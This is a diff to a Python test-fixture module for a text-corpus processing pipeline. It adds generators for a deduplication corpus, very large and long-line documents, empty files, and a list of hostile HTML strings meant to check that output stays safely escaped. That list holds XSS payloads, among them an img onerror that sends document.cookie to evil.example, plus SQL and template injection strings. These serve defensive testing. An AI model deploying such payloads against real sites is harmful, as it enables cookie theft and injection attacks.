@@ -158,3 +158,98 @@ def write_hostile_jsonl(path: Path, names: list[str] | None = None) -> Path:
     """A good line ("first"), the hostile lines (all, or ``names``) in order, a good line ("last")."""
     lines = [HOSTILE_LINES[n] for n in (names or list(HOSTILE_LINES))]
     return write_jsonl(path, [{"id": "first", "text": "first"}, *lines, {"id": "last", "text": "last"}])
+
+
+# ----------------------------------------------------------------------------------------------------------
+# A small good corpus with work for the global step (fault-injection runs)
+
+_WORDS = ("river stone market winter garden letter engine window silver mountain harbor teacher orange "
+          "village morning thunder castle pencil bridge forest candle meadow planet violin shadow kitchen "
+          "lantern island rabbit mirror").split()
+
+
+def _sentence(rng: random.Random, n: int) -> str:
+    words = [rng.choice(_WORDS) for _ in range(n)]
+    return " ".join(words).capitalize() + "."
+
+
+def dup_corpus(folder: Path, files: int = 4, docs_per_file: int = 300, seed: int = 11) -> list[Path]:
+    """``files`` shards (Parquet, JSONL, .jsonl.gz, .jsonl.zst in turn) of generated prose, with exact
+    duplicates (also differing only in case and spacing), near-duplicates (one word changed) and repeated ids
+    across files, so that every part of the global step has work. Deterministic for a seed."""
+    rng = random.Random(seed)
+    originals = [" ".join(_sentence(rng, rng.randint(8, 16)) for _ in range(rng.randint(4, 12)))
+                 for _ in range(files * docs_per_file)]
+    paths = []
+    for f in range(files):
+        rows = []
+        for i in range(docs_per_file):
+            k = f * docs_per_file + i
+            text = originals[k]
+            roll = rng.random()
+            if roll < 0.08 and k > 10:  # exact duplicate of an earlier document, maybe in another file
+                text = originals[rng.randrange(k)]
+            elif roll < 0.12 and k > 10:  # same text, other case and spacing
+                text = originals[rng.randrange(k)].upper().replace(" ", "  ")
+            elif roll < 0.18 and k > 10:  # near-duplicate: one word changed
+                words = originals[rng.randrange(k)].split(" ")
+                words[rng.randrange(len(words))] = "zeppelin"
+                text = " ".join(words)
+            doc_id = f"doc-{k:05d}" if rng.random() > 0.02 else f"doc-{rng.randrange(max(k, 1)):05d}"
+            rows.append({"id": doc_id, "text": text, "source": "web" if k % 3 else "books"})
+        name = ["p.parquet", "j.jsonl", "g.jsonl.gz", "z.jsonl.zst"][f % 4]
+        path = folder / f"shard-{f:02d}-{name}"
+        if name.endswith(".parquet"):
+            write_parquet(path, {key: [r[key] for r in rows] for key in ("id", "text", "source")})
+        elif name.endswith(".gz"):
+            write_jsonl_gz(path, rows)
+        elif name.endswith(".zst"):
+            write_jsonl_zst(path, rows)
+        else:
+            write_jsonl(path, rows)
+        paths.append(path)
+    return paths
+
+
+# ----------------------------------------------------------------------------------------------------------
+# Documents that are valid but try to break what comes after the reader
+
+#: Markup that would run if a report or viewer pasted the text into HTML unescaped. The text is data: it must
+#: come out byte for byte as it went in (normalize aside), wherever it ends.
+HOSTILE_HTML = [
+    "<script>alert('x')</script> Hello there, this is a page with a script tag in its body text.",
+    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"> An image tag that steals cookies.',
+    "</td></tr></table><iframe src=javascript:alert(1)></iframe> A row that closes a table early.",
+    "&lt;b&gt; escaped &amp; double &amp;amp; escaped entities, a ]]> CDATA end and a <!-- comment",
+    '"><svg/onload=alert(1)> {{7*7}} ${7*7} \' OR 1=1; -- the usual injection strings in one line.',
+]
+
+
+def big_document(path: Path, megabytes: int = 20, seed: int = 5) -> Path:
+    """One JSONL record whose text is ``megabytes`` MB of generated prose (paragraphs of sentences)."""
+    rng = random.Random(seed)
+    sentences = [_sentence(rng, rng.randint(6, 18)) for _ in range(2000)]
+    parts, size = [], 0
+    while size < megabytes << 20:
+        para = " ".join(rng.choice(sentences) for _ in range(6))
+        parts.append(para)
+        size += len(para) + 2
+    return write_jsonl(path, [{"id": "big", "text": "\n\n".join(parts)}])
+
+
+def long_line_document(path: Path, megabytes: int = 2, seed: int = 6) -> Path:
+    """One JSONL record whose text is a ``megabytes`` MB line of letters and digits without a space."""
+    rng = random.Random(seed)
+    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+    text = "".join(rng.choice(alphabet) for _ in range(megabytes << 20))
+    return write_jsonl(path, [{"id": "longline", "text": text}])
+
+
+def empty_gz(path: Path) -> Path:
+    """A valid gzip file of zero bytes of content."""
+    return write_jsonl_gz(path, [])
+
+
+def empty_parquet(path: Path) -> Path:
+    """A valid Parquet file with the usual columns and no row."""
+    return write_parquet(path, {"id": pa.array([], pa.string()), "text": pa.array([], pa.string())})
